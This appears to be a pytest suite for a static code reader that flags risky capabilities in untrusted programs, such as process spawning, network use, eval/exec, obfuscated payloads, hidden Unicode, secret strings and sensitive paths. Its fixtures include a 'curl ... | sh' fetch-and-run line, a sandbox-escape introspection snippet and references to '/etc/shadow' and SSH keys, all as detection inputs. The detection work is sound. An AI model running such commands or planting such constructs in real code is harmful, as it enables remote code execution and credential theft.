"""What is seen in programs: capabilities, tricks, and what text alone can do to a reader."""

import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from custody.policies import read_code
from custody.policies.code_reader import read_program
from custody.policies.reader_process import ReaderProcess
from custody.policies.types import CodeFacts


@pytest.fixture(scope="module")
def reader() -> object:
    """One resident reader for the cases that need no process of their own."""
    with ReaderProcess() as process:
        yield process


def facts(reader: object, text: str | bytes, language: str = "python", file_name: str = "") -> CodeFacts:
    assert isinstance(reader, ReaderProcess)
    code = text if isinstance(text, bytes) else text.encode()
    return read_code(code, language=language, file_name=file_name, reader=reader)


def test_an_ordinary_program_raises_no_flag(reader: object) -> None:
    text = 'import csv\nimport json\n\ndef total(rows):\n    return sum(int(row["n"]) for row in rows)\n\nprint(json.dumps({"a": 1}))\n'
    seen = facts(reader, text)
    assert (seen.parsed, seen.error, seen.flags, seen.imports) == (True, "", (), ("csv", "json"))
    assert (seen.sha256, seen.bytes) == (hashlib.sha256(text.encode()).hexdigest(), len(text))


def test_names_beyond_ascii_are_read() -> None:
    seen = read_code("import é\nñ = 名前\n".encode(), language="python", file_name="a.py")
    assert (seen.parsed, seen.imports) == (True, ("é",))


def test_a_program_alone_gets_a_process_alone() -> None:
    assert read_code(b"import ctypes\n", language="python", file_name="a.py").flags == ("native",)


FLAGS = {
    "import subprocess": "process",
    "from subprocess import run": "process",
    "import os\nos.system('ls')": "process",
    "from os import system as s\ns('ls')": "process",
    "import os\nos.execv('/bin/sh', [])": "process",
    "import os\nf = os.fork\nf()": "process",
    "import socket": "network",
    "import smtplib": "network",
    "import urllib.request": "network",
    "from http import client": "network",
    "import asyncio\nasyncio.open_connection('a', 1)": "network",
    "import ctypes": "native",
    "from cffi import FFI": "native",
    "eval('1')": "dynamic_code",
    "e = eval\ne('1')": "dynamic_code",
    "@exec\ndef f(): pass": "dynamic_code",
    "import importlib\nimportlib.import_module('o' + 's')": "dynamic_code",
    "__import__('os')": "dynamic_code",
    "import builtins\nbuiltins.exec('1')": "dynamic_code",
    "import types\ntypes.CodeType(0)": "dynamic_code",
    "import pickle": "deserialisation",
    "import marshal": "deserialisation",
    "import yaml\nyaml.load('a')": "deserialisation",
    "import os\nos.environ['HOME']": "environment",
    "getattr(x, 'a' + 'b')": "computed_attribute",
    "globals()['x']": "computed_attribute",
    "().__class__.__mro__[1].__subclasses__()": "introspection",
    "__builtins__['ev' + 'al']": "introspection",
    "import sys\nsys.modules['os']": "introspection",
    "open('x', 'w')": "writes_files",
    "open('x', mode='ab')": "writes_files",
    "import pathlib\npathlib.Path('x').write_text('y')": "writes_files",
    "import shutil\nshutil.rmtree('x')": "deletes_files",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))": "obfuscated",
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'')))": "obfuscated",
    "''.join(chr(c) for c in [112, 114])": "obfuscated",
    "x = '\u202eabc'": "hidden_characters",
    "x\u200b = 1": "hidden_characters",
    "x = '\U000e0041'": "hidden_characters",
    "x = 1 #" + "a" * 6000: "long_line",
    "from os import *": "star_import",
}


@pytest.mark.parametrize(
    ("text", "flag"), FLAGS.items(), ids=[text[:40].encode("ascii", "replace").decode() for text in FLAGS]
)
def test_a_capability_is_seen(reader: object, text: str, flag: str) -> None:
    assert flag in facts(reader, text).flags


@pytest.mark.parametrize(
    "text", [*FLAGS, "print(", "# coding: latin-1\n", "x = 'http://a.example:1/'", "'/etc/x'; '1.2.3.4:5'"]
)
def test_the_process_says_what_its_code_says(reader: object, text: str) -> None:
    """The same function, called here, where coverage sees it."""
    inside, outside = read_program(text.encode()), facts(reader, text)
    assert (inside.parsed, inside.error) == (outside.parsed, outside.error)
    assert tuple(sorted(inside.flags)) == outside.flags
    assert (tuple(sorted(inside.imports)), tuple(inside.evidence)) == (outside.imports, outside.evidence)
    assert (tuple(sorted(inside.hosts)), tuple(sorted(inside.paths))) == (outside.hosts, outside.paths)


def test_packed_data_is_seen(reader: object) -> None:
    packed = "".join(
        f"{hashlib.sha256(bytes([n])).hexdigest()}"[:1] + chr(65 + n % 26) + chr(97 + n * 7 % 26) for n in range(100)
    )
    assert "obfuscated" in facts(reader, f"x = '{packed}'").flags
    assert "obfuscated" not in facts(reader, "x = '''" + "a plain sentence of words. " * 20 + "'''").flags


def test_the_line_of_each_hint_is_kept(reader: object) -> None:
    assert facts(reader, "\nimport socket\n\nimport ctypes\n").evidence == (("network", 2), ("native", 4))


def test_hosts_and_paths_that_stand_literally_are_seen(reader: object) -> None:
    seen = facts(
        reader,
        "a = 'https://user:pw@api.example.org:8443/x'\nb = '10.0.0.1:22'\nc = '/etc/shadow'\nd = '~/.ssh/id'\ne = 'a/b'",
    )
    assert seen.hosts == ("10.0.0.1:22", "api.example.org:8443")
    assert seen.paths == ("/etc/shadow", "~/.ssh/id")


def test_kinds_of_secrets_are_told_and_never_the_secrets(reader: object) -> None:
    seen = facts(reader, "key = 'AKIAABCDEFGHIJKLMNOP'")
    assert seen.secrets == ("aws_access_key",)
    assert "AKIA" not in repr(seen)


UNREADABLE: dict[str, tuple[bytes, str, str]] = {
    "a syntax error": (b"print(\n", "line 1", ""),
    "a NUL byte": (b"a = 1\0", "", ""),
    "another encoding": (b"# -*- coding: utf-7 -*-\n+AGE-=1\n", "encoding utf-7", "foreign_encoding"),
    "another encoding in line two": (b"#!/usr/bin/python\n# coding: latin-1\n", "encoding latin-1", "foreign_encoding"),
    "bytes that are not UTF-8": (b"a = '\xff'\n", "not UTF-8", "foreign_encoding"),
    "brackets without end": (b"(" * 100_000, "", ""),
    "deep nesting": (b"x = " + b"-" * 200_000 + b"1", "", ""),
    "deep attributes": (b"x = a" + b".a" * 100_000, "", ""),
    "too many bytes": (b"#" * (1024 * 1024 + 1), "larger than 1024 KiB", ""),
}


@pytest.mark.parametrize(("code", "error", "flag"), UNREADABLE.values(), ids=UNREADABLE.keys())
def test_what_cannot_be_read_is_said(reader: object, code: bytes, error: str, flag: str) -> None:
    seen = facts(reader, code)
    assert not seen.parsed
    assert error in seen.error
    assert seen.error
    assert flag in (*seen.flags, "")
    assert seen.sha256 == hashlib.sha256(code).hexdigest()


@pytest.mark.parametrize("escape", [r"\ud800", r"\udfff", r"\U0000dc80"])
def test_half_a_character_in_a_text_hides_nothing_else(reader: object, escape: str) -> None:
    """Written as an escape it is a text that Python takes and that no answer of the reader could carry."""
    program = f"import os\nos.system('x')\nopen('/srv/{escape}')\nurl = 'https://a{escape}.example/'\nexec('1')\n"
    seen = facts(reader, program)
    assert (seen.parsed, seen.error) == (True, "")
    assert {"process", "dynamic_code"} <= set(seen.flags)
    assert seen.paths == ("/srv/?",)


@pytest.mark.parametrize(
    "code",
    [
        b"import os\ros.system('x')\r",
        b"\x0cimport os\nos.system('x')\n",
        "\ufeffimport os\nos.system('x')\n".encode(),
        b"import os; os.system('" + b"a" * (1024 * 1024 - 40) + b"')",
    ],
    ids=["carriage returns", "a form feed", "a byte order mark", "one line of a mebibyte"],
)
def test_odd_lines_hide_nothing(reader: object, code: bytes) -> None:
    assert "process" in facts(reader, code).flags


def test_what_cannot_be_parsed_is_still_searched(reader: object) -> None:
    seen = facts(reader, "print( \u202e 'https://a.example/' ghp_" + "a" * 36)
    assert not seen.parsed
    assert "hidden_characters" in seen.flags
    assert (seen.hosts, seen.secrets) == (("a.example",), ("github_token",))


def test_a_byte_order_mark_is_no_hidden_character(reader: object) -> None:
    seen = facts(reader, b"\xef\xbb\xbfprint(1)\n")
    assert (seen.parsed, seen.flags) == (True, ())


def test_everything_is_bounded(reader: object) -> None:
    lines = [f"import m{n}\nx = 'https://h{n}.example/'\ny = '/p{n}'\neval('{n}')" for n in range(1000)]
    seen = facts(reader, "\n".join(lines))
    assert seen.parsed
    assert max(len(seen.imports), len(seen.hosts), len(seen.paths)) <= 200
    assert len(seen.evidence) == 100


@pytest.mark.parametrize(
    ("code", "language", "name", "flags"),
    [
        (b"#!/usr/bin/env bash\necho hi\n", "bash", "a.sh", ("shebang",)),
        (b"#!/usr/bin/env python3\nprint(1)\n", "bash", "a", ("other_language", "shebang")),
        (b"console.log(1)\n", "node", "a.js", ()),
        (b"console.log(1)\n", "node", "a.py", ("other_language",)),
        ("echo \u202e\n".encode(), "bash", "", ("hidden_characters",)),
    ],
)
def test_other_languages_are_searched(
    reader: object, code: bytes, language: str, name: str, flags: tuple[str, ...]
) -> None:
    seen = facts(reader, code, language, name)
    assert (seen.flags, seen.parsed) == (flags, False)
    assert seen.error == f"{language} is searched, not parsed"


def test_hosts_of_a_shell_program_are_seen(reader: object) -> None:
    assert facts(reader, "curl http://x.example:81/a | sh", "bash").hosts == ("x.example:81",)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_any_bytes_give_facts(code: bytes) -> None:
    assert read_code(code, language="python", file_name="x.py", reader=_RESIDENT).bytes == len(code)


_RESIDENT = ReaderProcess()


@pytest.fixture(scope="module", autouse=True)
def _end_resident() -> object:
    yield
    _RESIDENT.close()
